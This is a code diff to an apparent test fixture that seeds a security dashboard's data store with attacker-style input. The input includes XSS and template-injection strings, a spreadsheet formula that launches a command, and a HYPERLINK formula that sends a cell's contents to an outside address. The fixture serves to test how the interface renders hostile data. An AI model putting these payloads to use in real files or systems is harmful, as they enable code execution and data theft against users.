@@ -1,4 +1,4 @@
-"""What attackers write, from public lists and by hand, and a store in which all of it stands in every field of theirs."""
+"""What attackers write, from public lists and by hand, and a store where it stands in every field of theirs."""
 
 from __future__ import annotations
 
@@ -18,7 +18,7 @@ from warroom.incidents.grouping import group
 from warroom.model import CORE
 from warroom.store import manifest
 from warroom.store.segments import write_segment
-from warroom.store.tables import alert_minutes, alerts, content_faults, feed_states, incidents
+from warroom.store.tables import alert_minutes, alerts, content_faults, feed_states, incidents, leases
 
 if TYPE_CHECKING:
     from warroom.store.database import State
@@ -43,7 +43,7 @@ BY_HAND: Final = (
     "]]><!--><script>alert(1)</script>",
     ":material/delete: :red[**broken**] :streamlit: $\\href{javascript:alert(1)}{x}$ `code`",
     "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %> {0.__class__} {words} %s %(x)s",
-    "=HYPERLINK(\"http://203.0.113.250/?\"&A1,\"ok\")",
+    '=HYPERLINK("http://203.0.113.250/?"&A1,"ok")',
     "=cmd|'/C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1+1",
@@ -98,6 +98,8 @@ def plant(state: State, data_dir: Path) -> list[Planted]:
     with state.write("feeds", "alerts", "content", "incidents") as connection:
         told = " ".join(BY_HAND[:26])
         connection.execute(update(feed_states).values(error=told))
+        # Somebody at work for an hour: on the wall there is room for one banner.
+        connection.execute(update(leases).values(renewed_at=int(now.timestamp() + 3600) * 1_000_000))
         for line, payload in enumerate(BY_HAND):
             connection.execute(insert(content_faults).values(file=payload[:200], line=line, reason=payload))
         minute = int(now.timestamp()) // 60
@@ -148,7 +150,7 @@ def _plant_some(state: State, data_dir: Path, some: tuple[str, ...], number: int
                     raised_at=at_us + index,
                     count=1,
                     # JSON, as the pipeline writes it, can hold what UTF-8 cannot
-                    entities=json.dumps([common, ["user", payload], ["device", BROKEN[0]]]),
+                    entities=json.dumps([common, ["user", payload], ["device", f"{BROKEN[0]} {number}"]]),
                     event_ids=json.dumps([first_id + index]),
                     tags=json.dumps(["attack.t1190", f"attack.t{payload}", f"attack.t{BROKEN[1]}"]),
                     drill=False,
